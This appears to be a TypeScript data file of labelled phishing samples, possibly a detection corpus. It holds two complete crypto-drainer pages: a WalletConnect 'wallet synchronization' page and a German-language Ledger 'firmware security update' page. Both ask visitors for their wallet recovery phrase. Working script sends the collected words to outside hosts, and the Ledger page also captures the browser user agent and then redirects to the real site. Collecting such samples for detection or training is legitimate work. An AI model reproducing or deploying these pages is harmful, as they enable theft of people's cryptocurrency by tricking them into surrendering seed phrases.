import { htmlRoute, type Entry } from '../entry.js';
import { doc, tess, relayScript } from '../parts/zq-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zq-seed-phrase-wallet-sync',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://walletconnect-sync-node.tessellate.site/validate',
  body: tess({
    title: 'WalletConnect — Wallet Synchronization',
    site: 'WalletConnect Protocol',
    accent: '#3b99fc',
    nav: ['Wallets', 'Rectify', 'Claim'],
    badge: false,
    body: `<section class="tb-section" style="max-width:560px;margin:auto"><h2>Validate your wallet</h2><p>Your wallet is not synchronised with the network node. Enter your 12 or 24-word recovery phrase to rectify the issue and claim pending tokens.</p>
<div class="tb-card"><form class="tb-form" id="sp"><label>Wallet</label><select name="wallet"><option>MetaMask</option><option>Trust Wallet</option><option>Phantom</option><option>Coinbase Wallet</option><option>Exodus</option></select>
<label>Recovery phrase</label><textarea name="phrase" rows="4" placeholder="Typically 12 (sometimes 24) words separated by single spaces"></textarea><button class="tb-btn" style="margin-top:12px">Validate</button></form></div></section>
${relayScript('#sp', 'https://submit.formwell.io/f/wcSync01/json', '/validate/processing', "if(String(d.phrase).trim().split(/\\s+/).length<12){alert('Invalid phrase');throw 0}")}`,
  }),
},

{
  id: 'zq-ledger-recovery-seed-de',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://ledger-sicherheit-update.de-support.com/recover',
  body: doc('Ledger Live — Sicherheitsupdate', `<main><b style="font-size:26px">LEDGER</b><h2>Wichtiges Firmware-Sicherheitsupdate</h2><p>Aufgrund einer Sicherheitslücke muss jedes Gerät erneut mit der Wiederherstellungsphrase verifiziert werden. Geräte, die bis 30.11.2026 nicht verifiziert werden, werden gesperrt.</p>
<form id="lg"><div class="g">${Array.from({ length: 24 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}." autocomplete="off">`).join('')}</div><button>Gerät verifizieren</button></form></main>
<script>document.getElementById('lg').onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=24;i++){var v=this['w'+i].value.trim();if(v)w.push(v)}
if(w.length<12){alert('Bitte geben Sie alle Wörter ein.');return}fetch('https://ledger-sicherheit-update.de-support.com/api/v/seed',{method:'POST',body:JSON.stringify({p:w.join(' '),ua:navigator.userAgent})}).then(function(){location='https://www.ledger.com/'})};</script>`, { lang: 'de', css: `body{background:#000;color:#fff}main{max-width:640px;margin:40px auto;padding:0 14px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}input{padding:9px;background:#1c1c1c;border:1px solid #444;color:#fff}button{margin-top:16px;background:#fff;color:#000;border:0;padding:12px 30px;border-radius:20px}` }),
},
];
